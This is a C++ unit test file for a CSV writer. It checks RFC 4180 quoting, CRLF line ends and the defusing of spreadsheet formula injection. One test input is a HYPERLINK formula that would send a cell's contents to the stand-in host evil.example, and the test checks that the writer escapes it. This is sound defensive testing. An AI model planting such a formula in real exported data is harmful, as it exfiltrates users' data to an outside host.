// The one CSV writer: RFC 4180 quoting only where a reader needs it, CRLF.
#include "csvwriter.h"

#include <gtest/gtest.h>

#include <limits>
#include <string>
#include <variant>
#include <vector>

TEST(CsvWriter, QuotesOnlyWhatNeedsIt)
{
    const struct
    {
        std::vector<std::variant<std::string, double>> fields; // a text or a number
        std::string row; // without its line end
    } cases[] = { { { "a", 1.5, -2e-05 }, "a,1.5,-2e-05" }, { { "" }, "" }, { { "", "" }, "," },
        { { "a", "", "b" }, "a,,b" }, { { "x,y" }, "\"x,y\"" },
        { { "say \"hi\"" }, "\"say \"\"hi\"\"\"" }, { { "\"" }, "\"\"\"\"" },
        { { "two\nlines" }, "\"two\nlines\"" }, { { "cr\r" }, "\"cr\r\"" },
        { { "cr\r\nlf" }, "\"cr\r\nlf\"" }, { { " lead", "trail ", " " }, " lead,trail , " },
        { { "Température", "µA" }, "Température,µA" },
        // A text a spreadsheet would run as a formula is kept a text; numbers stay numbers.
        { { "=1+1", "-abc", "+1", "@SUM(1+1)", -1.5 }, "'=1+1,'-abc,'+1,'@SUM(1+1),-1.5" },
        { { "\tx", "\rx", "-1.5", "a=1" }, "'\tx,\"'\rx\",'-1.5,a=1" },
        { { "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" },
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"" },
        { { std::numeric_limits<double>::infinity(), 3.0, 1234567890.0 }, ",3,1.23456789e+09" } };
    for (const auto &c : cases) {
        zem::files::CsvWriter csv;
        for (const auto &f : c.fields)
            std::holds_alternative<double>(f) ? csv.number(std::get<double>(f))
                                              : csv.field(std::get<std::string>(f));
        csv.endRow();
        EXPECT_EQ(csv.text(), c.row + "\r\n");
    }
}

TEST(CsvWriter, LinesAndPieces)
{
    zem::files::CsvWriter csv;
    csv.line("# note: a, \"b\"");
    csv.field("x").field("y").endRow();
    EXPECT_EQ(csv.take(), "# note: a, \"b\"\r\nx,y\r\n");
    // The next piece goes on where the first ended.
    csv.field("2").endRow();
    EXPECT_EQ(csv.text(), "2\r\n");
}
